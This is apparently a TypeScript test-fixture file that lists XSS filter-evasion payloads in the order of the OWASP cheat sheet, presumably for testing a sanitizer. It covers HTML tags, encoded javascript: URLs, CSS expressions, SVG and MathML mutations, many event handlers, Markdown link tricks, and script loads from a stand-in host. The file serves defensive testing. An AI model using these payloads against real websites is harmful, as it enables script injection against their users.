/**
 * The techniques of the XSS Filter Evasion Cheat Sheet
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html, read in November 2026), in its
 * order, each with a payload of the tests' own: whatever comes alive opens a dialog or asks {@link foreignHost}. What
 * the sheet says of servers (PHP, SSI) is among them as text that must stay text.
 */
export const foreignHost = 'vectors.example'

const at = `https://${foreignHost}`
const code = 'alert(1)'
const decimal = (text: string, width = 0, end = ';'): string =>
  Array.from(text, (sign) => `&#${String(sign.codePointAt(0)).padStart(width, '0')}${end}`).join('')
const hexadecimal = (text: string): string =>
  Array.from(text, (sign) => `&#x${sign.codePointAt(0)?.toString(16) ?? ''}`).join('')
const css = (text: string): string =>
  Array.from(text, (sign) => `\\${sign.codePointAt(0)?.toString(16).padStart(4, '0') ?? ''}`).join('')
const base64 = (text: string): string => Buffer.from(text).toString('base64')
const address = `javascript:${code}`
const alive = `<script>${code}</script>`
const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>${code}</script></svg>`

const elements: Readonly<Record<string, string>> = {
  'a script from elsewhere': `<SCRIPT SRC=${at}/1.js></SCRIPT>`,
  'one for many contexts': `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${code};//'>`,
  'a link with a handler': `<a onmouseover="${code}">over</a>`,
  'a link with a handler without quotes': `<a onmouseover=${code}>over</a>`,
  'an escaped link': `\\<a onmouseover="${code}"\\>over\\</a\\>`,
  'a picture that is broken off': `<IMG """>${alive}">`,
  fromCharCode: '<IMG SRC=javascript:eval(String.fromCharCode(97,108,101,114,116,40,49,41))>',
  'a source to get past a filter': `<IMG SRC=# onmouseover="${code}">`,
  'an empty source': `<IMG SRC= onmouseover="${code}">`,
  'no source at all': `<IMG onmouseover="${code}">`,
  onerror: `<IMG SRC=/ onerror="${code}"></img>`,
  'onerror in numbers': `<img src=x onerror="${decimal(address, 7, '')}">`,
  'a source in numbers': `<IMG SRC=${decimal(address)}>`,
  'a source in padded numbers': `<IMG SRC=${decimal(address, 7, '')}>`,
  'a source in hexadecimal numbers': `<IMG SRC=${hexadecimal(address)}>`,
  'a tab within': `<IMG SRC="jav\tascript:${code};">`,
  'a coded tab within': `<IMG SRC="jav&#x09;ascript:${code};">`,
  'a coded line feed within': `<IMG SRC="jav&#x0A;ascript:${code};">`,
  'a coded carriage return within': `<IMG SRC="jav&#x0D;ascript:${code};">`,
  'line feeds between all letters': `<IMG\nSRC\n=\n"\n${Array.from(address).join('\n')}\n"\n>`,
  'a null within': `<IMG SRC=java\0script:${code}>`,
  'a null within the name': `<SCR\0IPT>${code}</SCR\0IPT>`,
  'signs before the scheme': `<IMG SRC=" &#14;  ${address}">`,
  'a stroke behind the name': `<SCRIPT/XSS SRC="${at}/2.js"></SCRIPT>`,
  'signs behind the handler': `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=${code}>`,
  'a stroke for a space': `<SCRIPT/SRC="${at}/3.js"></SCRIPT>`,
  'a bracket too many': `<<SCRIPT>${code};//<</SCRIPT>`,
  'no closing tag': `<SCRIPT SRC=${at}/4.js?< B >`,
  'no scheme': `<SCRIPT SRC=//${foreignHost}/.j>`,
  'a tag that is half open': `<IMG SRC="${address}"`,
  'two opening brackets': `<iframe src=${at}/5.html <`,
  'an escape that is escaped': `\\";${code};//`,
  'the end of a script': `</script>${alive}`,
  'the end of a title': `</TITLE>${alive}`,
  'an input that is a picture': `<INPUT TYPE="IMAGE" SRC="${address};">`,
  'a background of the body': `<BODY BACKGROUND="${address}">`,
  dynsrc: `<IMG DYNSRC="${address}">`,
  lowsrc: `<IMG LOWSRC="${address}">`,
  'a picture of a list': `<STYLE>li {list-style-image: url("${address}");}</STYLE><UL><LI>x</br>`,
  vbscript: `<IMG SRC='vbscript:msgbox("1")'>`,
  livescript: `<IMG SRC="livescript:[${code}]">`,
  'a drawing with a handler': `<svg/onload=${code}>`,
  'a template of a script': 'Set.constructor`alert\\x281\\x29```',
  'onload of the body': `<BODY ONLOAD=${code}>`,
  bgsound: `<BGSOUND SRC="${address};">`,
  'an include of a script': `<BR SIZE="&{${code}}">`,
  'a style sheet that is a script': `<LINK REL="stylesheet" HREF="${address};">`,
  'a style sheet from elsewhere': `<LINK REL="stylesheet" HREF="${at}/6.css">`,
  'an import of a style sheet': `<STYLE>@import'${at}/7.css';</STYLE>`,
  'a style sheet by a header': `<META HTTP-EQUIV="Link" Content="<${at}/8.css>; REL=stylesheet">`,
  'a binding': `<STYLE>BODY{-moz-binding:url("${at}/9.xml#x")}</STYLE>`,
  'a style that breaks words up': `<STYLE>@im\\port'\\ja\\vasc\\ript:${code}';</STYLE>`,
  'an expression that is broken up': `<IMG STYLE="x:expr/*x*/ession(${code})">`,
  'an expression among comments': `exp/*<A STYLE='no\\x:no("*//*");x:ex/*x*//*/*/pression(${code})'>`,
  'a style that is a script': `<STYLE TYPE="text/javascript">${code};</STYLE>`,
  'a background of a class': `<STYLE>.x{background-image:url("${address}");}</STYLE><A CLASS=x></A>`,
  'a background of the page': `<STYLE type="text/css">BODY{background:url("${address}")}</STYLE>`,
  'a background from elsewhere': `<STYLE>BODY{background:url("${at}/10.png")}</STYLE>`,
  'an element that does not exist': `<XSS STYLE="x:expression(${code})">`,
  'a behaviour': `<XSS STYLE="behavior: url(${at}/11.htc);">`,
  'seven bits': `\u00bcscript\u00be${code}\u00bc/script\u00be`,
  'a refresh': `<META HTTP-EQUIV="refresh" CONTENT="0;url=${address};">`,
  'a refresh to data': `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,${base64(alive)}">`,
  'a refresh with two addresses': `<META HTTP-EQUIV="refresh" CONTENT="0; URL=${at}/;URL=${address};">`,
  'a frame': `<IFRAME SRC="${address};"></IFRAME>`,
  'a frame with a handler': `<IFRAME SRC=# onmouseover="${code}"></IFRAME>`,
  'a set of frames': `<FRAMESET><FRAME SRC="${address};"></FRAMESET>`,
  'a frame with a document': `<iframe srcdoc="${alive}"></iframe>`,
  'a background of a table': `<TABLE BACKGROUND="${address}">`,
  'a background of a cell': `<TABLE><TD BACKGROUND="${address}">`,
  'a background of a division': `<DIV STYLE="background-image: url(${address})">`,
  'a background in numbers': `<DIV STYLE="background-image:${css(`url('${address}')`)}">`,
  'a background behind a sign': `<DIV STYLE="background-image: url(&#1;${address})">`,
  'a background that is fetched': `<DIV STYLE="background-image: url(${at}/12.png)">`,
  'an expression': `<DIV STYLE="width: expression(${code});">`,
  'a conditional comment': `<!--[if gte IE 4]>${alive}<![endif]-->`,
  'a base': `<BASE HREF="javascript:${code};//">`,
  'a base elsewhere': `<BASE HREF="${at}/">`,
  'an object': `<OBJECT TYPE="text/x-scriptlet" DATA="${at}/13.html"></OBJECT>`,
  'an object of data': `<OBJECT DATA="data:text/html;base64,${base64(alive)}"></OBJECT>`,
  'an embedded film': `<EMBED SRC="${at}/14.swf" AllowScriptAccess="always"></EMBED>`,
  'an embedded drawing': `<EMBED SRC="data:image/svg+xml;base64,${base64(svg)}" type="image/svg+xml"></EMBED>`,
  'a script of a film': `a="get";b="URL(\\"";c="javascript:";d="${code};\\")";eval(a+b+c+d);`,
  'an island of data': `<XML ID="x"><I><B><IMG SRC="javas<!-- -->cript:${code}"></B></I></XML><SPAN DATASRC="#x" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>`,
  'an island from elsewhere': `<XML SRC="${at}/15.xml" ID=I></XML><SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>`,
  time: `<?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="x<SCRIPT DEFER>${code}</SCRIPT>">`,
  'a script that is named as a picture': `<SCRIPT SRC="${at}/16.jpg"></SCRIPT>`,
  'an include of the server': `<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT SRC=${at}/17.js></SCRIPT>'"-->`,
  'a script of the server': `<? echo('<SCR)';echo('IPT>${code}</SCRIPT>'); ?>`,
  'a picture that is a command': `<IMG SRC="${at}/command?deed=1">`,
  'a cookie': `<META HTTP-EQUIV="Set-Cookie" Content="user=${alive}">`,
  'seven bits by name': `<META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7">+ADw-SCRIPT+AD4-${code};+ADw-/SCRIPT+AD4-`,
  'a bracket in quotes': `<SCRIPT a=">" SRC="${at}/18.js"></SCRIPT>`,
  'a bracket in quotes behind a sign': `<SCRIPT =">" SRC="${at}/19.js"></SCRIPT>`,
  'a bracket in quotes before quotes': `<SCRIPT a=">" '' SRC="${at}/20.js"></SCRIPT>`,
  'a bracket in unlike quotes': `<SCRIPT "a='>'" SRC="${at}/21.js"></SCRIPT>`,
  'a bracket in graves': `<SCRIPT a=\`>\` SRC="${at}/22.js"></SCRIPT>`,
  'quotes within quotes': `<SCRIPT a=">'>" SRC="${at}/23.js"></SCRIPT>`,
  'a script that writes a script': `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="${at}/24.js"></SCRIPT>`,
  'a drawing with a script': svg,
  'a drawing with a moving address': `<svg><a><animate attributeName=href values=${address} /><text y=20>x</text></a></svg>`,
  'a drawing that uses another': `<svg><use href="data:image/svg+xml;base64,${base64(svg)}#x"/></svg>`,
  'a formula': `<math><maction actiontype="statusline" xlink:href="${address}">x</maction></math>`,
  'a form': `<form><button formaction="${address}">x</button></form>`,
  'a field that takes the focus': `<input autofocus onfocus=${code}>`,
  'details that open': `<details open ontoggle=${code}>`,
  'a film with a broken source': `<video><source onerror="${code}"></video>`,
  'a poster': `<video poster="${at}/25.png"></video>`,
  'pictures by density': `<img srcset="${at}/26.png 1x">`,
  'a mutation by noscript': `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  'a mutation by a template': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
}

/** The sheet's list of handlers, with those that HTML has had since. */
const handlers =
  'FSCommand onAbort onActivate onAfterPrint onAfterUpdate onAnimationEnd onAnimationIteration onAnimationStart onAuxClick onBeforeActivate onBeforeCopy onBeforeCut onBeforeDeactivate onBeforeEditFocus onBeforeInput onBeforePaste onBeforePrint onBeforeToggle onBeforeUnload onBeforeUpdate onBegin onBlur onBounce onCanPlay onCellChange onChange onClick onClose onContextMenu onControlSelect onCopy onCueChange onCut onDataAvailable onDataSetChanged onDataSetComplete onDblClick onDeactivate onDrag onDragDrop onDragEnd onDragEnter onDragLeave onDragOver onDragStart onDrop onEnd onError onErrorUpdate onFilterChange onFinish onFocus onFocusIn onFocusOut onFormData onHashChange onHelp onInput onInvalid onKeyDown onKeyPress onKeyUp onLayoutComplete onLoad onLoadStart onLoseCapture onMediaComplete onMediaError onMessage onMouseDown onMouseEnter onMouseLeave onMouseMove onMouseOut onMouseOver onMouseUp onMouseWheel onMove onMoveEnd onMoveStart onOffline onOnline onOutOfSync onPageShow onPaste onPause onPointerDown onPointerOver onPopState onProgress onPropertyChange onReadyStateChange onRedo onRepeat onReset onResize onResizeEnd onResizeStart onResume onReverse onRowDelete onRowExit onRowInserted onRowsEnter onScroll onScrollEnd onSeek onSelect onSelectionChange onSelectStart onStart onStop onStorage onSubmit onSyncRestored onTimeError onToggle onTouchStart onTrackChange onTransitionEnd onUndo onUnhandledRejection onUnload onURLFlip onWheel seekSegmentTime'.split(
    ' ',
  )

/** What Markdown itself could be talked into. */
const markdown: Readonly<Record<string, string>> = {
  'a link to a script': `[x](${address})`,
  'a link to a script in numbers': `[x](${decimal(address)})`,
  'a link behind a space': `[x]( ${address})`,
  'a link with a tab within': `[x](<java\tscript:${code}>)`,
  'a link with a null within': `[x](java\0script:${code})`,
  'a link in capitals': `[x](JaVaScRiPt:${code})`,
  'a link to data': `[x](data:text/html;base64,${base64(alive)})`,
  'a link to vbscript': '[x](vbscript:msgbox(1))',
  'a link by name': `[x][1]\n\n[1]: ${address}`,
  'a link between brackets': `<${address}>`,
  'a link that leaves its quotes': `[x](${at}/"onmouseover="${code})`,
  'a title that leaves its quotes': `[x](/x "\\"onmouseover=${code} x=\\"")`,
  'a link without a scheme': `![x](//${foreignHost}/27.png)`,
  'a link of backslashes': `![x](/\\${foreignHost}/28.png)`,
  'a picture from elsewhere': `![x](${at}/29.png)`,
  'a picture by name': `![x][2]\n\n[2]: ${at}/30.png`,
  'a picture that is a script': `![x](${address})`,
  'words of a picture that leave their quotes': `![x" onerror="${code}](/api/attachments/file/${'0'.repeat(32)}-1x1.webp)`,
  'a language of code that leaves its class': `\`\`\`x"onmouseover="${code}\n${alive}\n\`\`\``,
  code: `\`${alive}\``,
  'a title of a spoiler': `:::spoiler ${alive}\n${alive}\n:::`,
  'a spoiler': `>!${alive}!<`,
  'a spoiler between bars': `||${alive}||`,
  'a quotation': `> ${alive}`,
  'a table': `|a|\n|-|\n|${alive}|`,
  'a name': `@ada"onmouseover="${code}`,
  'an address of the web': `${at}/?"><script>${code}</script>`,
}

/** Every vector with its name. */
export const xssVectors: readonly (readonly [name: string, source: string])[] = [
  ...Object.entries(elements),
  ...handlers.map((name) => [`the handler ${name}`, `<img src=x tabindex=0 ${name}="${code}">`] as const),
  ...Object.entries(markdown),
]
